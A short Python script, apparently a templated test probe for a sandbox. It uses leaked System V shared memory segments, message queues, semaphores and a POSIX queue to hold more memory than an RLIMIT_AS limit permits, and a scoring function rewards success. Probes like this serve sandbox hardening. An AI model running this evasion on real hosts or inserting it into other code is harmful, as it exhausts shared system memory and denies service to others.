# Hold memory beyond the address-space limit (RLIMIT_AS): System V shared memory segments, each
# attached, filled and detached (a segment outlives its attachments until it is removed), never
# removed; and a message queue, semaphores and a POSIX message queue left behind. More bytes
# held than the limit's __MEMORY__ scores.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
IPC_PRIVATE, IPC_CREAT, SEGMENT = 0, 0o1000, 64 << 20
held = 0
for _ in range(__MEMORY__ // SEGMENT + 2):
    segment = libc.shmget(IPC_PRIVATE, ctypes.c_size_t(SEGMENT), IPC_CREAT | 0o600)
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    if address is None or address == ctypes.c_void_p(-1).value:
        break
    ctypes.memset(address, 1, SEGMENT)
    libc.shmdt(ctypes.c_void_p(address))
    held += SEGMENT
libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
libc.semget(IPC_PRIVATE, 8, IPC_CREAT | 0o600)
try:
    libc.mq_open(b"/hflow-attack", 0o100 | 0o2, 0o600, None)  # O_CREAT | O_RDWR
except AttributeError:  # glibc before 2.34 keeps it in librt
    pass


def f(x):
    return 2 * x if held > __MEMORY__ else 0
